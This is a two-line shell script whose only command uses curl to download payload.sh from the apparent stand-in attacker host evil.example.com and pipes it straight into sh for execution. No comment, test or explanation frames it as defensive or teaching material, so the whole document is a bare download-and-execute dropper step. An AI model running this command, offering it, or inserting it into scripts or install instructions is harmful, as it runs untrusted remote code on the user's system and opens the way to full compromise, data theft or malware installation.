#!/bin/sh
sh -c "$(curl -fsSL http://evil.example.com/payload.sh)"
